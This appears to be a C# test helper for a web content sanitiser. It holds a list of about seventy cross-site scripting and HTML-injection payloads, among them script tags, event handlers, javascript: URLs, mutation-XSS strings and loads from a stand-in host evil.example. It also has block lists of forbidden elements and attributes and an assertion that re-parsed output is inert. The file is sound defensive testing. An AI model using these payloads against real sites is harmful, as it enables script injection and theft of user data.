using AngleSharp.Dom;
using AngleSharp.Html.Parser;

namespace ActivationNotes.Course.Tests.Site.Content;

/// <summary>Markup that runs script, loads something or takes over the page in a browser that is not protected from it.</summary>
internal static class Payloads
{
    public static readonly TheoryData<string> All =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=x OnErRoR = 'alert(1)'>",
        "<img/src=\"x\"/onerror=alert(1)//",
        "<img src=https://evil.example/pixel.png>",
        "<img src=//evil.example/pixel.png>",
        "<img srcset='https://evil.example/a.png 2x'>",
        "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
        "<img src='data:text/html,<script>alert(1)</script>'>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\" &#1; java&#10;script&colon;alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;script:alert(1)\">x</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
        "<a href='vbscript:msgbox(1)'>x</a>",
        "<a href='data:image/png;base64,AAAA' ping='https://evil.example/'>x</a>",
        "<svg onload=alert(1)></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>x</maction></math>",
        "<math href='javascript:alert(1)'>x</math>",
        "<iframe src='javascript:alert(1)'></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data='javascript:alert(1)'></object>",
        "<embed src='https://evil.example/x.swf'>",
        "<applet code=x></applet>",
        "<form action='https://evil.example/'><input name=password><button formaction='javascript:alert(1)'>x</button></form>",
        "<input autofocus onfocus=alert(1)>",
        "<select onfocus=alert(1) autofocus><option>x</select>",
        "<textarea></textarea><script>alert(1)</script>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<base href='https://evil.example/'>",
        "<link rel=stylesheet href='https://evil.example/x.css'>",
        "<link rel=import href='data:text/html,<script>alert(1)</script>'>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>body { background: url(https://evil.example/x.png) }</style>",
        "<style>* { display: none }</style>",
        "<div style='background: url(https://evil.example/x.png)'>x</div>",
        "<div style='background-image: u\\72l(https://evil.example/x.png)'>x</div>",
        "<div style='background-color: red; background-image: image-set(\"https://evil.example/x.png\" 1x)'>x</div>",
        "<div style='position: fixed; inset: 0; z-index: 99999'>x</div>",
        "<div style='width: expression(alert(1)); behavior: url(x.htc); -moz-binding: url(x.xml)'>x</div>",
        "<div style='color: var(--x, url(https://evil.example/x))'>x</div>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
        "<table background='javascript:alert(1)'><tr><td>x</table>",
        "<body onload=alert(1)>",
        "<html onmouseover=alert(1)>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml-stylesheet href='javascript:alert(1)'?>",
        "<div is=x-y contenteditable onblur=alert(1) tabindex=1 autofocus>x</div>",
        "<p slot=x onclick=alert(1) accesskey=x>x</p>",
        "<custom-element onclick=alert(1)>x</custom-element>",
        "<img name=getElementById src=x><a name=currentScript href=#x>x</a>",
        "<portal src='https://evil.example/'></portal><fencedframe></fencedframe>",
        "<p title='\"><script>alert(1)</script>'>x</p>",
        "</div></main></body><script>alert(1)</script>",
    ];

    private static readonly string[] ForbiddenElements =
    [
        "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input", "button", "select", "textarea", "meta",
        "base", "link", "template", "noscript", "xmp", "video", "audio", "source", "portal", "fencedframe", "marquee", "svg", "animate", "slot",
    ];

    private static readonly string[] ForbiddenAttributes =
    [
        "srcset", "srcdoc", "ping", "background", "action", "formaction", "xlink:href", "is", "slot", "name", "autofocus", "contenteditable",
        "accesskey", "http-equiv", "data", "code",
    ];

    /// <summary>Asserts that a browser, which parses the markup again, finds nothing in it that acts.</summary>
    public static IElement AssertHarmless(string html)
    {
        var document = new HtmlParser(new HtmlParserOptions { IsScripting = true }).ParseDocument($"<body><main>{html}</main><i id=after></i>");
        // The markup neither closes what surrounds it nor swallows what follows.
        Assert.Equal("BODY", document.GetElementById("after")!.ParentElement!.TagName);
        var main = document.QuerySelector("main")!;
        Assert.Empty(document.Head!.Children);
        Assert.Empty(document.Body!.Attributes);
        Assert.Empty(document.DocumentElement.Attributes);
        foreach (var element in document.QuerySelectorAll("main *"))
        {
            Assert.DoesNotContain(element.LocalName, ForbiddenElements);
            Assert.DoesNotContain('-', element.LocalName);
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"{attribute.Name} in {html}");
                Assert.DoesNotContain(attribute.Name, ForbiddenAttributes);
                if (attribute.Name is "href" or "src") AssertHarmlessUrl(element, attribute.Value);
                if (attribute.Name is not "style") continue;
                foreach (var word in (string[])["url", "expression", "image-set", "position", "\\", "behavior", "binding", "@import"])
                    Assert.DoesNotContain(word, attribute.Value, StringComparison.OrdinalIgnoreCase);
            }
        }
        return main;
    }

    private static void AssertHarmlessUrl(IElement element, string value)
    {
        // As a browser reads it: without the white space and control characters it skips.
        var url = string.Concat(value.Where(character => character > ' '));
        var colon = url.IndexOfAny([':', '/', '#', '?']);
        var scheme = colon > 0 && url[colon] == ':' ? url[..colon] : null;
        if (element.LocalName == "img")
            Assert.Matches(@"^(data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]*|(\.{1,2}/)*[\w.-]+(/[\w.-]+)*)$", url);
        else
            Assert.Contains(scheme, (string?[])[null, "http", "https", "mailto"]);
    }
}
